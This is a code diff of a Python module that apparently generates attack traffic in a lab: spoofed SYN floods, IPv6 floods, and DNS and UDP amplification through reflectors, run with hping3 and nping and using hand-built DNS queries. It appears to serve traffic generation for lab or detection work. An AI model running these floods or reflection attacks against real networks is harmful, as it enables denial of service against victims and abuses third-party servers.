@@ -5,22 +5,22 @@ address as its source, so that the reflectors' answers go to the victim, who nev
 Every flood is bounded by a count. The lab's router drops what the victims answer to spoofed
 sources.
 """
-from benign_other import udp_words
 from lab import MAC, address
 from scenario import TARGETS, scenario
+from services import REFLECTED
 
 SERVICE_PORTS = (21, 22, 23, 25, 53, 80, 110, 123, 143, 443, 445, 993, 1883, 3306, 3389, 5060, 5432,
                  6379, 8080, 8443)
-# Answers of the protocols that reflection abuses, in bytes of UDP payload per query.
-REFLECTED = {17: [200], 19: [1020, 1020], 123: [440] * 6, 161: [26], 162: [1341], 389: [1450, 1450],
-             500: [204], 520: [504] * 2, 1900: [268, 307, 331, 312], 3283: [1006], 3702: [1430],
-             4500: [204], 5093: [1390], 5353: [480], 10001: [160], 11211: [1400] * 6, 17185: [100],
-             27015: [640], 37810: [712], 47808: [96]}
-
 
 def hping(ctx, options, count, micros, target, timeout=12):
     return ctx.run(["hping3", "-I", "eth0", "-q", "-n", "-c", count, "-i", f"u{micros}", *options,
                     target], timeout)
+
+
+def nping(ctx, options, target):
+    """nping over IPv6 builds whole frames, and so must be told both MAC addresses."""
+    return ctx.run(["nping", "-6", "-N", "-e", "eth0", "-S", ctx.own(), "--source-mac", MAC["atk"],
+                    "--dest-mac", MAC["rt"], *options, target], 12, place="atk")
 
 
 def source(ctx):
@@ -30,8 +30,14 @@ def source(ctx):
 
 
 def pace(ctx):
-    """Microseconds between packets: 100 to 3,000 packets a second."""
-    return int(1e6 / 10 ** ctx.rng.uniform(2, 3.5))
+    """Microseconds between packets: 60 to 3,000 packets a second."""
+    return int(1e6 / 10 ** ctx.rng.uniform(1.8, 3.5))
+
+
+def syn(ctx):
+    """A bare SYN, as most tools send, or one with options, as a connection's has."""
+    return ["-S", *ctx.rng.choice(([], [], ["--tcp-mss", 1460], ["--tcp-timestamp"],
+                                   ["--tcp-mss", 1400, "--tcp-timestamp"]))]
 
 
 def port(ctx):
@@ -57,13 +63,13 @@ FLOODER = ("atk", "srv")
 @scenario("flood", needs=FLOODER, families=(4,))
 def flood_syn(ctx):
     """SYN flood of one port."""
-    hping(ctx, ["-S", "-p", port(ctx), *source(ctx)], ctx.some(60, 120), pace(ctx), ctx.own(1))
+    hping(ctx, [*syn(ctx), "-p", port(ctx), *source(ctx)], ctx.some(60, 120), pace(ctx), ctx.own(1))
 
 
 @scenario("flood", needs=FLOODER, families=(4,))
 def flood_syn_ports(ctx):
     """SYN flood of several ports."""
-    several_ports(ctx, ["-S", *source(ctx)], 60, 120)
+    several_ports(ctx, [*syn(ctx), *source(ctx)], 60, 120)
 
 
 @scenario("flood", needs=FLOODER, families=(4,))
@@ -111,9 +117,8 @@ def flood_six(ctx):
     for _ in range(ctx.rng.randrange(4, 8)):
         kind = ["--udp", "--data-length", ctx.rng.randrange(1, 200)] if udp else [
             "--tcp", "--flags", ctx.rng.choice(("syn", "syn", "syn", "ack"))]
-        ctx.run(["nping", "-6", "-N", "-e", "eth0", "-S", ctx.own(), "--source-mac", MAC["atk"],
-                 "--dest-mac", MAC["rt"], *kind, "-g", ctx.rng.randrange(1024, 65536), "-p", target,
-                 "--rate", ctx.rng.randrange(100, 1000), "-c", ctx.some(10, 18), ctx.own(1)], 12)
+        nping(ctx, [*kind, "-g", ctx.rng.randrange(1024, 65536), "-p", target, "--rate",
+                    ctx.rng.randrange(60, 1000), "-c", ctx.some(10, 18)], ctx.own(1))
 
 
 VICTIM = ("srv",)
@@ -133,22 +138,22 @@ def reflectors(ctx, count):
 
 
 def query(ctx, number):
-    """A DNS query for a TXT record, in a file that hping3 sends as payload."""
+    """A DNS query for a TXT record, with room for a big answer."""
     name = f"txt{number}.lab.example"
     words = b"".join(bytes([len(w)]) + w.encode() for w in name.split("."))
-    data = (ctx.rng.randbytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + words +
+    return (ctx.rng.randbytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + words +
             b"\x00\x00\x10\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00")
-    path = ctx.services.path(f"{ctx.plan.name}-{number}.query")
-    with open(path, "wb") as out:
-        out.write(data)
-    return ["-2", "-p", 53, "-E", path, "-d", len(data)]
 
 
 @scenario("amplification", needs=VICTIM, families=(4,))
 def reflect_dns(ctx):
     """Big TXT answers of open resolvers; the biggest come in fragments."""
     for reflector in reflectors(ctx, ctx.rng.randrange(3, 7)):
-        reflect(ctx, query(ctx, ctx.rng.randrange(3, 16)), reflector, ctx.some(4, 8))
+        data = query(ctx, ctx.rng.randrange(3, 16))
+        path = ctx.services.path(f"{ctx.plan.name}-{reflector}")
+        with open(path, "wb") as out:
+            out.write(data)
+        reflect(ctx, ["-2", "-p", 53, "-E", path, "-d", len(data)], reflector, ctx.some(4, 8))
 
 
 @scenario("amplification", needs=VICTIM, families=(4,))
@@ -175,5 +180,14 @@ def reflect_icmp(ctx):
         reflect(ctx, ["-1", "-d", ctx.rng.choice((56, 400, 1200))], reflector, ctx.some(4, 8))
 
 
-def reflector_words(path):
-    return udp_words("reflect", path)
+@scenario("amplification", needs=VICTIM, families=(6,))
+def reflect_six(ctx):
+    """The same over IPv6, with nping."""
+    for _ in range(ctx.rng.randrange(4, 8)):
+        data = ctx.rng.randbytes(ctx.rng.randrange(1, 40))
+        number = ctx.rng.choice(sorted(REFLECTED))
+        if ctx.rng.random() < 0.5:
+            number, data = 53, query(ctx, ctx.rng.randrange(3, 16))
+        nping(ctx, ["--udp", "-g", ctx.rng.randrange(1024, 65536), "-p", number, "--data",
+                    data.hex(), "--rate", ctx.rng.randrange(50, 500), "-c", ctx.some(3, 6)],
+              ctx.server("rfl"))
